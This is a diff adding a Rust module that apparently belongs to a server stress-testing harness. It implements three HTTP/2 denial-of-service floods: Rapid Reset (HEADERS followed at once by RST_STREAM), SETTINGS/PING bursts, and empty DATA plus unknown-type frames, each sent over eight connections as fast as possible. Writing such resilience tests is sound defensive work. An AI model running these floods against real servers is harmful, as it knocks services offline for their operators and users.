@@ -1,0 +1,87 @@
+//! HTTP/2 frames that cost their receiver more than their sender.
+
+use std::future::Future;
+use std::io;
+use std::sync::Arc;
+use std::time::Duration;
+
+use tokio::time::timeout;
+
+use crate::ground::Ground;
+use crate::http2::{
+    DATA, END_HEADERS, HEADERS, Http2, INITIAL_WINDOW_SIZE, PING, RST_STREAM, SETTINGS, frame, open_header,
+    review_header, settings_payload,
+};
+
+const CONNECTIONS: usize = 8;
+/// Frames of one write.
+const BURST: u32 = 50;
+/// A type that RFC 9113 does not know, so that it must be ignored.
+const UNKNOWN: u8 = 0x7f;
+
+pub async fn rapid_reset(ground: Arc<Ground>) {
+    let burst = |http2: &mut Http2, _| {
+        let mut frames = Vec::new();
+        for _ in 0..BURST {
+            let stream = http2.new_stream();
+            frames.extend(frame(HEADERS, END_HEADERS, stream, &review_header(100)));
+            frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
+        }
+        frames
+    };
+    flood(ground, burst).await;
+}
+
+pub async fn settings_and_ping(ground: Arc<Ground>) {
+    let burst = |_: &mut Http2, round: u32| {
+        let settings = settings_payload(&[(INITIAL_WINDOW_SIZE, 1000 + round % 2)]);
+        let mut frames = Vec::new();
+        for number in 0..BURST {
+            frames.extend(frame(SETTINGS, 0, 0, &settings));
+            frames.extend(frame(PING, 0, 0, &u64::from(number).to_be_bytes()));
+        }
+        frames
+    };
+    flood(ground, burst).await;
+}
+
+pub async fn empty(ground: Arc<Ground>) {
+    let burst = |http2: &mut Http2, round: u32| {
+        let mut frames = Vec::new();
+        // The first burst opens the stream that the others send nothing on.
+        let stream = if round == 0 { http2.new_stream() } else { 1 };
+        if round == 0 {
+            frames.extend(frame(HEADERS, END_HEADERS, stream, &open_header()));
+        }
+        for _ in 0..BURST {
+            frames.extend(frame(DATA, 0, stream, &[]));
+            frames.extend(frame(UNKNOWN, 0, 0, &[]));
+        }
+        frames
+    };
+    flood(ground, burst).await;
+}
+
+/// Sends bursts as fast as they are taken; what comes back is hardly read.
+async fn flood(ground: Arc<Ground>, burst: fn(&mut Http2, u32) -> Vec<u8>) {
+    let client = move |ground, _| attack(ground, burst);
+    ground.swarm(CONNECTIONS, client).await;
+}
+
+fn attack(
+    ground: Arc<Ground>,
+    burst: fn(&mut Http2, u32) -> Vec<u8>,
+) -> impl Future<Output = io::Result<()>> + Send + 'static {
+    async move {
+        let mut http2 = Http2::open(ground, &[]).await?;
+        for round in 0.. {
+            let frames = burst(&mut http2, round);
+            http2.send(&frames).await?;
+            if let Ok(closed) = timeout(Duration::ZERO, http2.hold()).await {
+                return closed;
+            }
+            tokio::task::yield_now().await;
+        }
+        Ok(())
+    }
+}
